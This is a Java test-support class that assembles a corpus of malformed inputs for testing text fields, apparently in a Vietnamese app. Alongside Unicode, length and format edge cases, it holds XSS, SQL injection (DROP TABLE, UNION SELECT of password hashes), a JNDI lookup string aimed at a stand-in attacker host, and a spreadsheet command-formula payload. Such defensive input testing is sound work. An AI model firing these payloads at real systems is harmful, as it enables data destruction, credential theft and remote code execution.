package vn.langso.support;

import java.text.Normalizer;
import java.util.ArrayList;
import java.util.List;

/**
 * The malformed-input corpus (issue 9, "Bad input and faults"): what people, broken phones and attackers type into a
 * field. Every text carries {@link #FLAG_SCRIPT} where it is a script payload, so a browser can tell if one ran.
 */
public final class MalformedInputs {

    /** A payload that runs sets {@code window.__langsoXss}; a page that shows it as text leaves it unset. */
    public static final String FLAG_SCRIPT = "window.__langsoXss=1";

    /** One input: what kind of trouble it is, and the text. */
    public record Input(String kind, String text) {
        @Override
        public String toString() {
            String shown = text.length() > 40 ? text.substring(0, 40) + "…(" + text.length() + ")" : text;
            return kind + " " + shown.codePoints().mapToObj(c -> c < 0x20 || (c >= 0x7f && c < 0xa0)
                    || Character.getType(c) == Character.FORMAT || Character.getType(c) == Character.SURROGATE
                    ? String.format("\\u%04x", c) : Character.toString(c)).reduce("", String::concat);
        }
    }

    private MalformedInputs() {
    }

    /** The texts for any text field; {@code loneSurrogates} only where the channel can carry them (Java, JSON). */
    public static List<Input> texts(boolean loneSurrogates) {
        List<Input> inputs = new ArrayList<>();
        String name = "Nguyễn Thị Ánh Đào";
        add(inputs, "vietnamese-nfc", Normalizer.normalize(name, Normalizer.Form.NFC),
                Normalizer.normalize("Hoàng Văn Thụ, xóm Ải", Normalizer.Form.NFC));
        add(inputs, "vietnamese-nfd", Normalizer.normalize(name, Normalizer.Form.NFD),
                Normalizer.normalize("Bế Thị Ưng", Normalizer.Form.NFD));
        add(inputs, "vietnamese-mixed", Normalizer.normalize("Nguyễn", Normalizer.Form.NFD) + " "
                + Normalizer.normalize("Thị Ánh", Normalizer.Form.NFC), "Trương Vĩnh Ký" + "\u0301\u0323");
        add(inputs, "long", "a".repeat(10_000), "Đ".repeat(10_000),
                Normalizer.normalize("Ệ", Normalizer.Form.NFD).repeat(5_000), "😀".repeat(5_000), "x".repeat(201));
        add(inputs, "emoji", "👨‍👩‍👧‍👦 Gia đình", "🇻🇳", "👍🏽 Lò Văn Pá", "🧑🏿‍🌾", "😀");
        add(inputs, "zero-width", "Nguyễn\u200BVăn\u200CAn", "\uFEFFLò Thị Ớt", "\u200D", "\u2060\u2060",
                "Hà\u00ADGiang");
        add(inputs, "bidi", "\u202Egnaig aH\u202C", "\u2066Tày\u2069", "\u200Fصالح\u200E", "abc\u202Dxyz");
        add(inputs, "whitespace", "", " ", "\u00A0\u00A0", "\t", "\u3000", "  Lê  Văn   Tám  ");
        add(inputs, "control", "\u0000", "Lê\u0007Văn", "A\r\nB", "\u001B[31mđỏ", "\u007F", "\u0085x");
        add(inputs, "script", "<script>" + FLAG_SCRIPT + "</script>",
                "<img src=x onerror=\"" + FLAG_SCRIPT + "\">", "\"><svg onload=" + FLAG_SCRIPT + ">",
                "javascript:" + FLAG_SCRIPT, "<a href=\"javascript:" + FLAG_SCRIPT + "\">Bấm</a>",
                "'-alert(1)-'", "{{7*7}}${7*7}", "<iframe srcdoc=\"<script>" + FLAG_SCRIPT + "</script>\">");
        add(inputs, "sql", "' OR '1'='1", "'; DROP TABLE household; --", "1; SELECT SLEEP(5)",
                "\\' UNION SELECT password_hash FROM user_account --", "Robert'); DELETE FROM visit;--", "%' --",
                "0x27");
        add(inputs, "phone", "0912", "09I2 345 678", "+84 abc def", "0".repeat(40), "+849123456789012345",
                "-0912345678", "(+84) 912-345-678 ext. 9", "＋８４９１２３４５６７８", "0912345678; drop");
        add(inputs, "date", "2026-02-30", "31/31/2026", "0000-00-00", "9999-12-31T99:99:99Z", "hôm qua",
                "1970-01-01T00:00:00Z", "-1");
        add(inputs, "number", "-1", "1e309", "NaN", "99999999999999999999", "0x1F", "½", "٣");
        add(inputs, "format", "{0}", "%s%n%x", "${jndi:ldap://attacker/x}", "#{7*7}", "\\u0000");
        add(inputs, "formula", "=cmd|' /C calc'!A0", "+84 912", "-2+3", "@SUM(A1:A2)", "=HYPERLINK(\"http://x\")");
        if (loneSurrogates) {
            add(inputs, "lone-surrogate", "\uD800", "\uDC00abc", "Lê\uD83D", "\uDFFF\uD800");
        }
        return List.copyOf(inputs);
    }

    private static void add(List<Input> inputs, String kind, String... texts) {
        for (String text : texts) {
            inputs.add(new Input(kind, text));
        }
    }
}
